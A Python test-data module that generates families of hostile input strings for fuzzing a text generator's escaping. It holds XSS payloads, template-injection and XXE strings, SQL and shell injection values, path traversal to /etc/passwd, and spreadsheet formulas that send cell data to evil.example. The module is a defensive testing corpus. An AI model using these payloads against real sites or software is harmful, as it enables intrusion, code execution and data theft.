"""Hundreds of kinds of hostile texts, made from families: each is a habit of some program that reads text as more.

A family is a list of forms and what is put into them. `hostile.py` holds the texts that are tried in every field by
every run of the tests; these are many more, and several share a field.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator
from itertools import product

from generator.prose.text import unwelcome_characters

RUNS = (
    "alert(1)",
    "alert`1`",
    "window['al'+'ert'](1)",
    "top[/al/.source+/ert/.source](1)",
    "import('//evil.example/x')",
)


def families() -> dict[str, tuple[str, ...]]:
    """Every family by its name; no text twice, none that a file may not hold."""
    found: dict[str, tuple[str, ...]] = {}
    seen: set[str] = set()
    for name, make in _FAMILIES.items():
        texts = dict.fromkeys(text for text in make() if text.strip() and text not in seen)
        seen.update(texts)
        found[name] = tuple(text for text in texts if not unwelcome_characters(text))
    return found


def _tags() -> Iterator[str]:
    """Tags well and badly made: cut off, doubled, nested, with odd spaces, in odd letters."""
    names = "script ScRiPt svg math iframe object embed applet base link meta style form input button select textarea".split()
    names += (
        "details dialog marquee template slot noscript noembed noframes plaintext xmp listing title frameset".split()
    )
    for name in names:
        yield f"<{name}>alert(1)</{name}>"
        yield f"<{name}"
        yield f"</{name} x=1>alert(1)"
    for name in ("script", "img", "svg"):
        yield f"<<{name}>><{name}/x=1>"
        yield f"<{name}\n>alert(1)</{name}\n>"
        yield f"<{name}/ >alert(1)</ {name}>"
        yield f"< {name}>alert(1)< /{name}>"
        yield f"<x:{name} xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:{name}>"
        yield f"<{name[:3]}<{name}>{name[3:]}>alert(1)"
    yield "<>" * 20
    yield "<a<b<c<d<e<f"
    yield "<!doctype html><html><head></head><body onload=alert(1)></body></html>"
    yield "<q>said</q><blockquote>said</blockquote><mark data-passages='p-1-2'>said</mark>"
    yield "<h1 id=top>other</h1><h2 id=quotations>other</h2>"


def _handlers() -> Iterator[str]:
    """Elements that run something without a script element."""
    happen = "load error focus blur click mouseover pointerenter animationstart transitionend toggle begin end repeat".split()
    happen += "hashchange popstate pageshow message resize scroll wheel copy paste input change beforeprint".split()
    hosts = "img svg body video audio details input a div marquee".split()
    for number, (event, host) in enumerate((event, hosts[n % len(hosts)]) for n, event in enumerate(happen)):
        run = RUNS[number % len(RUNS)]
        yield f"<{host} on{event}={run}>"
        yield f"<{host}/on{event}\t=\n'{run}' autofocus tabindex=1 open src=x>"
        yield f'" on{event}="{run}'
        yield f"' on{event}='{run}' x='"
        yield f"x on{event}={run} "


def _breakouts() -> Iterator[str]:
    """Whatever ends the place that a text stands in, and begins another."""
    ends = [
        '">',
        "'>",
        "`>",
        "-->",
        "--!>",
        "]]>",
        "?>",
        "%>",
        "*/",
        "//",
        "})",
        '"]}',
        "';",
        '";',
        "`;",
        "\\';",
        '\\";',
    ]
    ends += [
        f"</{name}>" for name in "title style script textarea option select xmp noscript iframe svg math p li".split()
    ]
    for end, begin in product(ends, ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")):
        yield f"{end}{begin}"


def _entities() -> Iterator[str]:
    """Characters written as entities in every way, whole and cut off, once and twice."""
    for sign in "<>&\"'/=`{}[]()|*_#:;":
        code = ord(sign)
        yield f"&#{code};script&#x{code:x};script&#{code:07}script&#x{code:06X} &#{code}"
    for (
        name
    ) in "lt gt amp quot apos nbsp copy Tab NewLine colon lpar rpar lbrace lbrack bsol grave ZeroWidthSpace".split():
        yield f"&{name};x &{name} &amp;{name}; &amp;amp;{name};"
    yield "&#0; &#x80; &#xD800; &#x110000; &#xFFFFFFFFF; &#; &#x; & &; &unknown; &notit; &AMP &LT"
    yield "&lt;img src=x onerror&equals;alert&lpar;1&rpar;&gt;"


def _schemes() -> Iterator[str]:
    """Addresses that are no addresses, as text, in Markdown and in tags."""
    schemes = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\nscript:alert(1)",
        "java\tscript:alert(1)",
        " javascript:alert(1)",
    ]
    schemes += [
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "javascript&#58;alert(1)",
        "javascript%3Aalert(1)",
    ]
    schemes += [
        "javascript://example.org/%0aalert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
    ]
    schemes += [
        "data:image/svg+xml,<svg onload=alert(1)>",
        "vbscript:msgbox(1)",
        "blob:x",
        "filesystem:x",
        "view-source:x",
        "file:///etc/passwd",
    ]
    schemes += [
        "//evil.example",
        "\\\\evil.example\\x",
        "/\\evil.example",
        "https:evil.example",
        "https:///evil.example",
        "http://[::1]:80/",
    ]
    schemes += [
        "https://user:pass@evil.example/",
        "https://evil.example%2f@x/",
        "https://xn--a-ecp.example/",
        "ftp://evil.example/",
        "mailto:me@evil.example",
        "tel:+1",
    ]
    for scheme in schemes:
        yield scheme
        yield f"[x]({scheme}) ![x]({scheme}) <{scheme}>"
        yield f'<a href="{scheme}">x</a><img src="{scheme}"><form action="{scheme}">'
        yield f"[x][1]\n\n[1]: {scheme} 'y'"


def _templates() -> Iterator[str]:
    """What template engines would compute."""
    for inner in (
        "7*7",
        "config",
        "''.__class__.__mro__[1].__subclasses__()",
        "self._TemplateReference__context",
        "x|safe",
        "range(9**9)",
    ):
        for form in (
            "{{{{ {} }}}}",
            "{{% print {} %}}",
            "${{{}}}",
            "#{{{}}}",
            "<%= {} %>",
            "[[{}]]",
            "{{{{{{{}}}}}}}",
            "@({})",
            "{{#{}}}{{/{}}}",
            "$({})",
        ):
            yield form.format(inner, inner)
    yield "{%- raw -%}{{ x }}{%- endraw -%}"
    yield "{% for x in (1).__class__.__base__.__subclasses__() %}{% endfor %}"
    yield "{# comment"
    yield "{% include '/etc/passwd' %}{% import 'os' as os %}{% extends 'x' %}"
    yield "<#assign x='freemarker.template.utility.Execute'?new()>${x('id')}"
    yield "<?php system('id'); ?><? echo 1 ?><%@ page import='x' %>"
    yield "{{constructor.constructor('alert(1)')()}}"
    yield "<div ng-app ng-csp>{{$on.constructor('alert(1)')()}}</div><div v-html='x' x-init='alert(1)' hx-get=/x @click=alert(1) :x=1>"


def _includes() -> Iterator[str]:
    """Includes of servers, of Markdown and of XML."""
    yield '<!--#exec cmd="id"--><!--#include virtual="/etc/passwd" --><!--#echo var="DOCUMENT_ROOT" -->'
    yield '<esi:include src="http://evil.example/"/>'
    yield "<![CDATA[<script>alert(1)</script>]]>"
    yield "<![CDATA[ ]]]]><![CDATA[> ]]>"
    yield '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c"><!ENTITY % d SYSTEM "file:///x">]><a>&b;%d;</a>'
    yield '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    yield '<?xml-stylesheet type="text/xsl" href="#x"?><xsl:value-of select="system-property(\'xsl:vendor\')"/>'
    yield '--8<-- "/etc/passwd"\n\n;--8<-- "x"\n\n--8<--\nx\n--8<--'
    yield "{!../../README.md!} {! x.md ln[1:2] !} @include(x) !include x !!python/object/apply:os.system ['id']"
    yield "+ADw-script+AD4-alert(1)+ADw-/script+AD4- +/v8-"
    yield "~{x}~ ~[x]~ ::: x\n:::\n\n<!-- x -->\n\n/// x | y\nz\n///"


def _markdown() -> Iterator[str]:
    """What Markdown, and what extends it, reads as more than text."""
    for sign in "* _ ` ~ ^ = + - # > | ! [ ] ( ) : ; \\ $ % @ / < & .".split():
        yield f"{sign}x{sign} {sign * 2}x{sign * 2} {sign * 3}x{sign * 3}"
        yield f"{sign} x\n{sign}{sign}{sign} x\n\n{sign * 5}"
        yield f"x{sign}\n\n{sign}"
    yield "1. x\n2) x\n\n1\\. x\n\na. x\n\n(1) x"
    yield "x\n=\n\ny\n-\n\nz\n\n***\n___\n- - -"
    yield "Term\n: what it means\n\nTerm\n~ what it means"
    yield "| a |\n| :-: |\n| `|` |\n\na | b\n--|--\nc | d"
    yield "x {#id .class key='val' onclick=alert(1)} [y]{.z} ![a](b){width=1}"
    yield '=== "Tab"\n\n    x\n\n!!! danger "x"\n    y\n\n??? x\n    y\n\n???+ x'
    yield "[^x]\n\n[^x]: y\n    z\n\n[@cite] [-@cite] [[wiki|link]] ((anchor)) %%%x%%%"
    yield "*[abbr]: long\n\nabbr\n\n[ref]: <x> (y)\n[ref][] [ref] ![ref]"
    yield "- [ ] x\n- [x] y\n\n+ x\n\n\tx\n\n   - y\n     1. z"
    yield "`` ` `` ``` ` ``` `x``y` \\` ~~~x~~~\n```{.python hl_lines='1'}\nx\n```"
    yield "<div markdown=1>\n**x**\n</div>\n\n<span markdown='span'>*x*</span>"
    yield "(c) (r) (tm) +/- --> <-- 1/2 1st ... \"x\" 'y' << >> :-) :smile: http://x.example www.x.example x@x.example #1 @x"
    yield "\\begin{x}\\end{x} \\(x\\) \\[x\\] $$x$$ $`x`$ \\input{x} \\write18{id}"
    yield "---\nlayout: x\n---\n\n+++\nx = 1\n+++\n\n;;;\n{}\n;;;"
    yield "x  \ny\\\nz<br>\n&nbsp;\n\n\u00a0\n\nx"


def _data() -> Iterator[str]:
    """What databases, shells, formats, spreadsheets and mail read as more."""
    for form in (
        "' OR '1'='1",
        "1; DROP TABLE x --",
        "') UNION SELECT 1,2 #",
        "admin'/*",
        "\\'; EXEC xp_cmdshell('id'); --",
        '" AND SLEEP(9)#',
    ):
        yield form
    for form in (
        "$(id)",
        "`id`",
        "| id",
        "|| id",
        "&& id",
        "; id",
        "> /tmp/x",
        "< /etc/passwd",
        "${IFS}id",
        "!!",
        "~root",
        "*?[a]{b,c}",
        "\\$x %x% ^x^",
        "() { :;}; id",
    ):
        yield form
        yield f'x"{form}"'
    yield "%s%s%s%n%n%n%x %d %p %99999999s %*.*f %1$s %(x)s %% {0} {0.__class__} {x!r:>{y}} {} {{}}"
    yield "eval('1') __import__('os').system('id') exec(\"x\") #!/bin/sh Runtime.getRuntime().exec('id')"
    yield "(&(x=*)(y=*)) *)(uid=*))(|(uid=* //x[text()='' or '1'='1'] {$gt: ''} {\"$where\": \"1\"}"
    for sign in ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "'=", '"=', " =", ";=", ",="):
        yield f"{sign}1+1"
        yield f'{sign}HYPERLINK("https://evil.example/?"&A1,"x")'
        yield f"{sign}cmd|'/C calc'!A1"
    yield 'a,b;c\td"e""f\'g\n"h\r,i'.replace("\r", "")
    yield "Subject: x\nBcc: me@evil.example\n\nx\n.\nQUIT"
    yield "HTTP/1.1 200 OK\nSet-Cookie: x=1\n\n<script>alert(1)</script>"
    yield "BEGIN:VCALENDAR\nEND:VCALENDAR"
    yield "@article{x, title={y}} {\\\"o} \\textbf{x} $x_1^2$ \\% \\& \\# ~ -- --- `` '' \\verb|x|"
    yield "TY  - JOUR\nTI  - x\nER  - \n\nTY  - BOOK"
    yield '{"a": "b", "__proto__": {"c": 1}} [1, 2] null true NaN Infinity -0 1e999 \\u0000 \\ud800'
    yield "key: value\n- item\n? x\n: y\n&a *a !b |\n  c # d %YAML 1.2\n..."
    yield "[section]\nkey = value ; x # y\n<?plist?>"
    yield "// x /* y */ -- z # w <!-- v --> {- u -} (* t *) REM s ' r"


def _names() -> Iterator[str]:
    """Words that some system keeps for itself."""
    yield from "CON PRN AUX NUL COM1 LPT1 CON.txt nul. ..  . ~ desktop.ini .git .htaccess index.html 404.html".split()
    yield from "__proto__ constructor prototype toString hasOwnProperty valueOf undefined null NaN None True False".split()
    yield from "__search __toc __drawer __palette_0 top q-no-change p-1-2 u-x s-0 main nav header footer id name length".split()
    yield from "unnamed stated todo anonymous root admin localhost 127.0.0.1 ::1".split()
    for step in ("../", "..\\", "..%2f", "%2e%2e/", "....//", "/./", "..;/", "%c0%ae%c0%ae/"):
        yield step * 3 + "etc/passwd"
    yield "C:\\Windows\\x C:x \\\\?\\C:\\x //server/share file:///x ~/x $HOME/x %APPDATA%\\x"
    yield "x" * 256 + ".txt"


def _numbers() -> Iterator[str]:
    """Numbers, dates and truths in every spelling."""
    yield "0 00 -0 +0 0.0 .0 0. 1e3 1E-3 0x1F 0o17 0b11 1_000 1,000 1.000,5 1'000 ٣٤ 三 Ⅳ ½ ² ₃ ① 𝟏 १२"
    yield "9" * 400
    yield "0." + "0" * 300 + "1"
    yield "NaN Infinity -Infinity 1#INF 2147483648 -9223372036854775809 1e309 0.1+0.2"
    yield "2024-02-30 0000-00-00 99/99/9999 12:60:61 1970-01-01T00:00:00Z 2038-01-19 1 April 1st 3pm"
    yield "true false yes no on off Y n ~ null Null TRUE"
    yield "1986. A year\n\n1986) A year\n\n#1 No.1 §1 1° 1% 1‰ $1 €1 £1 ¥1"


def _mutations() -> Iterator[str]:
    """Texts that a browser mends into something else when it reads, writes and reads again."""
    inner = "<img src=x onerror=alert(1)>"
    for left, right in (
        ("<math><mtext><table><mglyph><style>", ""),
        ("<svg><style><a title='</style>", "'>"),
        ("<noscript><p title='</noscript>", "'>"),
    ):
        yield f"{left}{inner}{right}"
    for name in "annotation-xml foreignObject desc title mi mo mn ms mtext malignmark".split():
        yield f"<svg><{name}><math><{name} encoding=text/html><style><!--</style>{inner}--></{name}></svg>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{inner}"
    yield f"<table><td><svg><p>{inner}</table><select><option>{inner}</select>"
    yield f"<p><b><i></p>{inner}</b></i><a><table><a>{inner}"
    yield f"<template>{inner}</template><frameset>{inner}</frameset><textarea>{inner}"
    yield "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>"
    yield "<svg><set attributeName=onload to=alert(1)><use href='data:image/svg+xml,<svg id=x/>#x'><image href=//evil.example/x>"
    yield "<svg><script href=data:,alert(1) /><script>alert&lpar;1)</script><handler xmlns='x'>alert(1)</handler></svg>"
    yield "<math href=javascript:alert(1)>x<maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>"
    yield "<a href=x id=a name=b><form id=document><input name=cookie><img name=getElementById>"
    yield "<div is=x slot=y part=z contenteditable popover=auto inert hidden></div><dialog open><menu type=context>"


def _styles() -> Iterator[str]:
    """Styles that load, hide or cover."""
    for form in (
        "background:url(//evil.example/x)",
        "width:expression(alert(1))",
        "behavior:url(#x)",
        "-moz-binding:url(x)",
        "position:fixed;inset:0",
        "content:url(data:x)",
    ):
        yield f'<div style="{form}">x</div>'
        yield f"}}*{{{form}}}/*"
        yield f'{{: style="{form}" }}'
    yield "<style>@import '//evil.example/x';@font-face{src:url(//evil.example)}a[href^=x]{background:url(//evil.example)}</style>"
    yield "<link rel=stylesheet href=//evil.example/x><link rel=import href=x><link rel=prefetch href=//evil.example>"
    yield "\\3c script\\3e  \\00003cscript \\75rl(x) u\\72l(x)"


def _letters() -> Iterator[str]:
    """Letters that look, sort, fold, combine and break like others."""
    yield "ＦＵＬＬｗｉｄｔｈ ＜script＞﹤b﹥ ‹i› ⟨u⟩ 〈x〉 ˂x˃ ᐸxᐳ"
    yield "раураl аррlе ѕсоре Ηello Ꭺmerica ᴀʙᴄ ⒜⒝ 🄰🄱 𝔸𝕓𝒄𝓭 𝖊𝗳𝘨𝙝𝚒 ⓙⓚ"
    yield "İıŞşĞğ Iİiı ẞß ſt Kelvin K Ångström Å ΑΆ ΣΣς ǆǅǄ ﬀﬃ ŉ ΐ ᾳ և"
    yield "".join(f"x{chr(0x300 + n)}{chr(0x316 + n)}{chr(0x323 + n)}" for n in range(20))
    yield "e" + "".join(map(chr, range(0x300, 0x340))) + "nd"
    yield "한국어 한국어 각 ᄀ가 ㄱㅏ ガ ｶﾞ か\u3099 が"
    yield "السلام عليكم שלום עולם ܫܠܡܐ ދިވެހި ﷽ ﷺ ـــ اللّه ١٢٣"
    yield "ถ้า ที่นี่ ກໍ ကြိုး ខ្មែរ མི་ क्षत्रिय தமிழ் বাংলা తెలుగు ಕನ್ನಡ മലയാളം සිංහල ᠮᠣᠩᠭᠣᠯ"
    yield "漢字 汉字 漢︀字 葛󠄀 葛󠄁 𠮷野家 丨 丿 〇 々 ｱｲｳ 「」『』【】〖〗 、。・…—～"
    yield "👍🏽 👩🏿‍🚀 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇺🇦🇺🇸 👨‍👩‍👧‍👦 ❤️ ❤︎ ✈︎ 1️⃣ #️⃣ *️⃣ 🏳️‍⚧️ 🫱🏻‍🫲🏿 🙂‍↕️"
    yield "¯\\_(ツ)_/¯ (╯°□°)╯︵ ┻━┻ ͡° ͜ʖ ͡° ლ,ᔑ•ﺪ͟͠•ᔐ.ლ ｀;´ ༼ つ ◕_◕ ༽つ"
    yield "ᚠᛇᚻ᛫ᛒᛦᚦ ⠠⠃⠗⠇ 𐌰𐌱 𓀀𓂀 𒀀 𝄞𝄢 ♔♚ ☃☂ ⁂ ‱ ‽ ⸘ ⁊ ℀ № ℃ ™ ℠ ₿"
    yield "¡¢£¤¥¦§¨©ª«¬®¯°±²³´µ¶·¸¹º»¼½¾¿ÀÿĀſƀɏ ʰ˿ ̀ͯ Ͱ"
    yield "⁰⁴⁵ ₀₁₂ ⅐⅑ ⅒ ↉ Ω≈ç√∫˜µ≤≥÷ ∀∂∈ℝ∧∪≡∞ ↑↗↨↻⇣ ┐┼╔╘░►☺♀ ﬁ�⑀₂ἠḂӥẄɐː⍎אԱა"
    yield "„a“ ‚b‘ »c« ›d‹ ‟e‟ ‛f‛ ❝g❞ 〝h〞 ＂i＂ ＇j＇ ʻk ʼl ˈm ′n ″o ‴p `q´"
    yield "‐ ‑ ‒ – — ― ⁃ − ﹘ ﹣ － ⸺ ⸻ ~ ∼ 〜 ⁓ ‥ … ⋯ ︙ . . ."
    spaces = (chr(code) for code in range(0x10000) if unicodedata.category(chr(code)) == "Zs")
    yield "".join(f"x{space}y" for space in spaces)


def _lengths() -> Iterator[str]:
    """Very long, very deep, very many."""
    yield "a" * 2_000
    yield "ab " * 500
    yield "<b>" * 200 + "x"
    yield "(" * 200 + "[" * 200 + "{" * 200
    yield "> " * 200 + "x"
    yield "*" * 500
    yield "`" * 333
    yield "&" * 100 + "&amp;" * 100
    yield "\n".join("x" for _ in range(200))
    yield "👩‍👩‍👧" * 50
    yield "e\u0301" * 200
    yield "| " * 200


_FAMILIES = {
    "tags": _tags,
    "handlers": _handlers,
    "breakouts": _breakouts,
    "entities": _entities,
    "schemes": _schemes,
    "templates": _templates,
    "includes": _includes,
    "markdown": _markdown,
    "data": _data,
    "names": _names,
    "numbers": _numbers,
    "mutations": _mutations,
    "styles": _styles,
    "letters": _letters,
    "lengths": _lengths,
}
